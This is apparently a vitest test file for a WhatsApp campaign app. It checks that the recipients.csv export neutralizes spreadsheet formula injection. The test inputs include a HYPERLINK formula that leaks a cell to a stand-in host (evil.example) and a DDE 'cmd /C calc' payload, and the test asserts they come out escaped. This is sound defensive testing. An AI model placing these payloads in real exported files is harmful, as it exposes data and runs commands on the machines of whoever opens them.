import { csvCellText, type CampaignCreatedResponse, type CampaignDto } from '@wadesk/contracts';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../contacts/csv-parse.js';
import { connectedSimulator, phoneNumbers } from '../../test/desk-factories.js';
import { eventually } from '../../test/session-helpers.js';
import { useTestApp } from '../../test/test-app.js';

const t = useTestApp({ user: true });
const nextNumber = phoneNumbers(47_000, 1);
const FORMULA_START = /^[=+\-@\t\r]/;

describe('a campaign\'s recipients.csv (issue 31 item 5)', () => {
  it('neutralizes formula cells for `,` and `;` spreadsheets, and keeps every cell readable back', async () => {
    const connection = await connectedSimulator(t, { name: 'CSV sends' });
    const good = nextNumber();
    // Invalid lines are stored as typed: each is a cell of the CSV.
    const lines = [good, '=HYPERLINK("http://evil.example/?x="&A1,"click")', `+${good}`, '-2+3;=cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd'];
    const res = await t.call<CampaignCreatedResponse>('POST', '/api/campaigns', {
      token: t.user,
      body: { whatsappId: connection.id, minInterval: 0, maxInterval: 0, kind: 'text', numbers: lines.join('\n'), message: 'Olá' },
    });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    await eventually(async () => {
      const c = (await t.call<CampaignDto>('GET', `/api/campaigns/${res.body.id}`, { token: t.user })).body;
      return c.status === 'done' ? c : null;
    }, 20_000, 'campaign done');

    const csv = await t.app.http.inject({ method: 'GET', url: `/api/campaigns/${res.body.id}/recipients.csv`, headers: { authorization: `Bearer ${t.user}` } });
    expect(csv.statusCode).toBe(200);
    const text = csv.rawPayload.toString('utf8');
    expect(text.startsWith('\uFEFFline,number,status,error,sentAt\r\n')).toBe(true);
    const rows = text.split('\r\n');
    // A number that starts with + is written as text: apostrophe, then quotes.
    expect(rows[3]).toBe(`3,"'+${good}",invalid,Repeats an earlier line,`);
    expect(rows[4]).toBe(`4,"'-2+3;'=cmd|' /C calc'!A0",invalid,Not a phone number,`);

    // A `,` spreadsheet: no cell starts a formula, and each reads back as stored.
    const cells = parseCsv(text, ',').flatMap((r) => r.cells);
    for (const cell of cells) expect(cell).not.toMatch(FORMULA_START);
    expect(parseCsv(text, ',').map((r) => csvCellText(r.cells[1]!))).toEqual(['number', ...lines]);
    // A `;` spreadsheet splits each line on `;` and honours a quote only at a field's start.
    const fields = text.replace('\uFEFF', '').split(/\r\n|\r|\n/).flatMap((l) => l.split(';')).map((f) => f.replace(/^"/, ''));
    for (const field of fields) expect(field).not.toMatch(FORMULA_START);
  });
});
